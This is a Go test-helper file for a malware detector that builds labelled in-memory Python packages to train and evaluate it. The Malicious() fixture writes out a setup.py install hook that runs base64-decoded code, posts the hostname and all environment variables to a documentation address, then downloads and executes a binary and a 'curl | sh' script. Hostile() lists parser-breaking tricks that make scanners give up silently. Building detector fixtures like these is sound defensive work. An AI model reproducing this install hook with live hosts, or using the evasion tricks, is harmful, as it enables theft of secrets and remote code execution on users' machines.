package detectortest

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing/fstest"

	"github.com/malguard/malguard/datasets"
	"github.com/malguard/malguard/eval"
)

// Package returns a package in memory with the given files by path. What is wrong
// with it is Incomplete, given as statuses.
func Package(files map[string]string, incomplete ...string) *datasets.Package {
	fsys, hash := fstest.MapFS{}, sha256.New()
	for _, name := range slices.Sorted(maps.Keys(files)) {
		fsys[name] = &fstest.MapFile{Data: []byte(files[name])}
		fmt.Fprintf(hash, "%q %q\n", name, files[name])
	}
	p := &datasets.Package{Name: "demo", Version: "1.0", SHA256: hex.EncodeToString(hash.Sum(nil)), FS: fsys}
	for _, status := range incomplete {
		p.Incomplete = append(p.Incomplete, datasets.Reason{Status: status})
	}
	return p
}

// Sdist returns the package of a setup.py as the index serves it, with the
// metadata and an empty module beside it.
func Sdist(setup string) *datasets.Package {
	return Package(map[string]string{
		"demo-1.0/setup.py":         setup,
		"demo-1.0/PKG-INFO":         "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: a demonstration\n\nText.\n",
		"demo-1.0/demo/__init__.py": "",
	})
}

// Malicious returns the setup.py of an installer that does what most malicious ones
// do: a hook that runs decoded source, reports the machine to a server and starts
// what it fetched. The addresses are reserved for documentation, and the decoded
// source prints a word.
func Malicious() string {
	return `import base64
import os
import platform
import socket
import subprocess
import urllib.request

import requests
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))
        where = {"host": socket.gethostname(), "system": platform.node(), "env": dict(os.environ)}
        requests.post("http://192.0.2.1/report", json=where)
        data = urllib.request.urlopen("http://192.0.2.1/tool.exe").read()
        with open("/tmp/tool.exe", "wb") as f:
            f.write(data)
        os.chmod("/tmp/tool.exe", 0o777)
        subprocess.Popen(["/tmp/tool.exe"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        os.system("curl http://192.0.2.1/more | sh")


setup(name="demo", version="1.0", cmdclass={"install": Install})
`
}

// Benign returns a setup.py that only describes a package.
func Benign() string {
	return `from setuptools import find_packages, setup

setup(name="demo", version="1.0", description="a demonstration", packages=find_packages())
`
}

// Hostile returns ways to write a source that run as before, or nearly, and on
// which readers have been seen to give up without a word.
func Hostile(src string) map[string]string {
	return map[string]string{
		"NUL byte":            "# \x00\n" + src,
		"nested parentheses":  "x = " + strings.Repeat("(", 5000) + "1" + strings.Repeat(")", 5000) + "\n" + src,
		"chain of attributes": "x = a" + strings.Repeat(".b", 5000) + "\n" + src,
		"long sum":            "x = 1" + strings.Repeat("+1", 20000) + "\n" + src,
		"nested lists":        "x = " + strings.Repeat("[", 90) + strings.Repeat("]", 90) + "\n" + src,
		"Latin-1":             "# caf\xe9\n" + src,
		"Latin-1, declared":   "# -*- coding: latin-1 -*-\n# caf\xe9\n" + src,
		"Python 2":            "print 'one'\n" + src,
		"line of 10 MB":       "x = '" + strings.Repeat("y", 10<<20) + "'\n" + src,
		"list of 1 MB":        "x = [" + strings.Repeat("1, ", 1<<20/3) + "]\n" + src,
		"carriage returns":    strings.ReplaceAll(src, "\n", "\r"),
		"Windows lines":       strings.ReplaceAll(src, "\n", "\r\n"),
		"byte order mark":     "\ufeff" + src,
		"broken statement":    "def (:\n" + src,
	}
}

// Corpus returns a labelled collection in memory of n inert packages of either
// class, in groups of two, enough to train anything that learns. Malicious ones
// vary the installer of [Malicious]; benign ones have a few harmless functions.
func Corpus(n int) []eval.Item[*datasets.Package] {
	var items []eval.Item[*datasets.Package]
	for i := range n {
		shape := strings.Repeat(fmt.Sprintf("value_%d = %d\n", i, i), i%5+1)
		bad := Sdist(shape + Malicious())
		good := Package(map[string]string{
			fmt.Sprintf("demo%d/setup.py", i):         Benign() + shape,
			fmt.Sprintf("demo%d/README.md", i):        "# demo\n",
			fmt.Sprintf("demo%d/demo/__init__.py", i): "from .core import add\n",
			fmt.Sprintf("demo%d/demo/core.py", i): shape + "import json\nimport re\n\n\ndef add(a, b):\n    return re.sub(a, b, json.dumps([a, b]))\n\n\n" +
				"def main():\n    print(len(sorted(add('a', 'b'))))\n",
		})
		items = append(items, item(fmt.Sprintf("malicious-%d", i), i/2, datasets.Malicious, bad),
			item(fmt.Sprintf("benign-%d", i), i/2, datasets.Benign, good))
	}
	return items
}

func item(id string, group int, label datasets.Label, p *datasets.Package) eval.Item[*datasets.Package] {
	return eval.Item[*datasets.Package]{
		Case: eval.Case{ID: id, Group: fmt.Sprintf("%v-%d", label, group), Label: label},
		Load: func(context.Context) (*datasets.Package, error) { return p, nil },
	}
}
